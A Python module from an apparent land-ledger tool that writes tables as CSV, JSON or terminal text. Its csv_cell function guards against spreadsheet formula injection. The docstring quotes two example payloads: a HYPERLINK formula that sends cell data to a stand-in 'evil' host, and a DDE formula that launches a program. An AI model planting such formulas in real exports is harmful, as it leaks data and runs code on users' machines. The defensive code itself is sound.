"""Rows of a table (ledger balances, journal, projects, overdue loans, allocations) as CSV, JSON or text.

One writer for the CLI and the API: rows are plain dicts of str/int/float/None, the
shape :mod:`geo.quota.queries` returns. ``table`` is a text table for a terminal
(rich is imported only for it), :func:`write_records` the same cells one row a block, for a
terminal narrower than the table. Text in a CSV cell goes through :func:`csv_cell` first, so a
spreadsheet reads it as text, never as a formula.
"""

from __future__ import annotations

import csv
import io
import json
import math
import re
import sys
from collections.abc import Iterable, Mapping, Sequence
from decimal import ROUND_HALF_UP, Context, Decimal
from typing import TYPE_CHECKING, Any, Final, Literal, TextIO, get_args

from geo.errors import FormatError
from geo.papers import beijing

if TYPE_CHECKING:
    from rich.console import Console
    from rich.table import Table
    from rich.text import Text

TableFormat = Literal["table", "json", "csv"]
TABLE_FORMATS: Final[tuple[TableFormat, ...]] = get_args(TableFormat)
MEDIA_TYPES: Final[dict[TableFormat, str]] = {
    "table": "text/plain; charset=utf-8",
    "json": "application/json",
    "csv": "text/csv; charset=utf-8",
}

Row = Mapping[str, Any]

# A spreadsheet reads a cell that starts with one of these as a formula (OWASP, "CSV Injection")
FORMULA_TRIGGERS: Final[tuple[str, ...]] = ("=", "+", "-", "@", "\t", "\r")
_LONE_CR: Final = re.compile(r"\r(?!\n)")


def table_format(fmt: str) -> TableFormat:
    """``fmt`` if it is a table format; else a FormatError listing the valid ones."""
    if fmt not in TABLE_FORMATS:
        raise FormatError(
            f"unknown format {fmt!r}; use {', '.join(TABLE_FORMATS)}",
            f"未知格式 {fmt!r}，可用：{'、'.join(TABLE_FORMATS)}",
        )
    return fmt


def csv_cell(value: Any) -> Any:
    r"""``value`` as a CSV field a spreadsheet shows as text: text starting with ``= + - @``, TAB or CR gets a
    leading ``'``, and a lone CR inside text becomes LF; anything else, numbers included, is returned unchanged.

    Why: Excel and LibreOffice evaluate such a field as a formula when the CSV is opened (it comes with a BOM
    precisely so that Excel opens it), and parcel ids and names, a disposal's 文号 and a ledger's 事由 are typed
    by users: ``=HYPERLINK("http://evil/?"&A3,"详情")`` would send the neighbouring cells away and
    ``=cmd|' /C calc'!A0`` would start a program. The quote is OWASP's remedy: the cell shows the text, quote
    included, and nothing runs. Only ``str`` is touched: a negative number stays a number (``-3.5``, a float, is
    written as ``-3.5``), while the text ``"-3.5"`` becomes ``'-3.5``, since a user could type ``-1+A1`` as well.

    The lone CR: our writers end rows with ``\n``, and Python's ``csv`` (3.11) quotes a field only for the
    characters of that terminator, so ``"x\r=cmd|…"`` went out unquoted and a spreadsheet, which ends a row at a
    bare CR too, would start a new row with the formula. As LF the field is quoted (RFC 4180) and stays one cell.
    """
    if not isinstance(value, str):
        return value
    text = _LONE_CR.sub("\n", value)
    return "'" + text if value.startswith(FORMULA_TRIGGERS) else text


def _columns(rows: Sequence[Row], columns: Sequence[str] | None) -> list[str]:
    if columns is not None:
        return list(columns)
    seen: dict[str, None] = {}
    for row in rows:
        seen.update(dict.fromkeys(row))
    return list(seen)


WIDE: Final = Context(prec=400)  # every float's digits and four decimals (1e308 has 309): quantize never overflows
_MOMENT: Final = re.compile(r"\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d+)?([+-]\d{2}:\d{2}|Z)?")


def _cell(value: Any) -> str:
    """A value as a text table shows it: a moment the ledger, the projects or the consultations stored (ISO, UTC:
    ``2026-12-05T23:52:12.038449``; or with its offset, as the journal writes Beijing time ``…+08:00``) in Beijing
    time to the second (``2026-12-06 07:52:12``), as the papers date things: an officer reading at 07:52 on the
    6th saw the 5th. JSON and CSV keep the stored text. A number to four decimals, halves rounded up on its
    decimal figure (not its binary neighbour)."""
    if value is None:
        return ""
    if isinstance(value, float) and math.isfinite(value):
        figure = Decimal(repr(value)).quantize(Decimal("0.0001"), rounding=ROUND_HALF_UP, context=WIDE)
        return f"{figure:,.4f}".rstrip("0").rstrip(".")
    if isinstance(value, str) and _MOMENT.fullmatch(value):
        return beijing(value).strftime("%Y-%m-%d %H:%M:%S")
    return str(value)


def write_table(
    rows: Iterable[Row],
    fmt: str,
    out: TextIO,
    *,
    title: str = "",
    columns: Sequence[str] | None = None,
    width: int | None = None,
) -> int | None:
    """Write ``rows`` to ``out`` as ``fmt`` (table | json | csv); a text table's width in columns is returned
    (None for JSON and CSV), for a caller to say how to read one wider than its terminal.

    ``columns`` fixes the header and its order (an empty CSV still gets its header);
    ``width`` the text table's least width (default: the terminal's): a table wider than it is drawn whole, never
    with its cells cut to "…" (a journal's 事由 was, even in a 500-column terminal).
    """
    kind = table_format(fmt)
    rows = list(rows)
    if kind == "json":
        out.write(json.dumps(rows, ensure_ascii=False, indent=2, default=str) + "\n")
        return None
    names = _columns(rows, columns)
    if kind == "csv":
        if names:
            writer = csv.DictWriter(out, fieldnames=names, extrasaction="ignore", lineterminator="\n")
            writer.writeheader()
            writer.writerows({key: csv_cell(value) for key, value in row.items()} for row in rows)
        return None
    return print_whole(_text_table(rows, names, title), out, width)


def print_whole(table: Any, out: TextIO, least: int | None = None) -> int:
    """``table`` (a Rich renderable) written to ``out`` at least ``least`` columns wide (default: as wide as it
    is), at its own width where wider: no cell cut to "…" nor wrapped. Its width is returned."""
    whole = _whole_width(table, out)
    _console(out, max(least or 0, whole)).print(table)
    return whole


def table_width(rows: Iterable[Row], out: TextIO, *, title: str = "", columns: Sequence[str] | None = None) -> int:
    """The width in columns of the text table :func:`write_table` would draw on ``out``, without drawing it: a
    caller then knows whether the table fits a terminal before anything is written."""
    rows = list(rows)
    return _whole_width(_text_table(rows, _columns(rows, columns), title), out)


def _whole_width(table: Any, out: TextIO) -> int:
    """A table's own width in columns, measured where nothing limits it."""
    return _console(out, UNBOUNDED).measure(table).maximum


def _text_table(rows: Sequence[Row], names: Sequence[str], title: str) -> Table:
    from rich.table import Table

    # Text, not str: Rich would read ids and names such as "b[red]x" as markup
    table = Table(title=_shown(title) if title else None)
    for name in names or ["(empty)"]:
        table.add_column(_shown(name))
    for row in rows:
        table.add_row(*(_shown(_cell(row.get(name))) for name in names))
    return table


UNBOUNDED = 100_000  # a console width no table reaches: a table's own width is measured in it


def _console(out: TextIO, width: int | None) -> Console:
    from rich.console import Console

    return Console(file=out, width=width) if width else Console(file=out)


def _shown(text: str) -> Text:
    from rich.text import Text

    return Text(text)


def write_records(
    rows: Iterable[Row],
    out: TextIO,
    *,
    title: str = "",
    columns: Sequence[str] | None = None,
    width: int | None = None,
) -> None:
    """Write ``rows`` as psql's expanded display (``\\x``): the title, then each row a block under a rule
    ``-[ 记录 1 / record 1 ]---``, one ``column: value`` line a column.

    Why: a ledger's table is drawn 200–300 columns wide so that a pipe keeps its columns whole, and an 80-column
    terminal wraps it mid-cell; a block a row reads at any width. The columns' names are padded to one display
    width (a Chinese character takes two columns, as Rich counts them), so the values start in one column; a value
    is the table's cell as shown (:func:`_cell`, Rich's control-character stripping), and the further lines of a
    cell (an area's 公顷 and 亩 under its m²) are indented under its first. The rules are as wide as the widest line,
    at most ``width`` (a terminal's columns)."""
    from rich.cells import cell_len

    rows = list(rows)
    names = _columns(rows, columns)
    labels = [_shown(name).plain for name in names]
    pad = max(map(cell_len, labels), default=0)
    if title:
        out.write(_shown(title).plain + "\n")
    if not rows:
        out.write("(无记录 / no records)\n")
    blocks = [
        [
            line
            for name, label in zip(names, labels, strict=True)
            for line in _record_lines(label, _shown(_cell(row.get(name))).plain, pad)
        ]
        for row in rows
    ]
    wide = min(max((cell_len(line) for lines in blocks for line in lines), default=0), width or sys.maxsize)
    for number, lines in enumerate(blocks, 1):
        rule = f"-[ 记录 {number} / record {number} ]"
        out.write(rule + "-" * (wide - cell_len(rule)) + "\n")
        out.writelines(line + "\n" for line in lines)


def _record_lines(label: str, value: str, pad: int) -> list[str]:
    """``label: value``, ``label`` padded to ``pad`` display columns; a value's further lines under its first."""
    from rich.cells import cell_len

    first, *more = value.split("\n")
    indent = " " * (pad + 2)
    head = f"{label}{' ' * (pad - cell_len(label))}:" + (f" {first}" if first else "")
    return [head, *(indent + line for line in more)]


def format_table(
    rows: Iterable[Row], fmt: str, *, title: str = "", columns: Sequence[str] | None = None, width: int = 160
) -> str:
    """:func:`write_table` into a string, e.g. the body of an API response."""
    out = io.StringIO()
    write_table(rows, fmt, out, title=title, columns=columns, width=width)
    return out.getvalue()
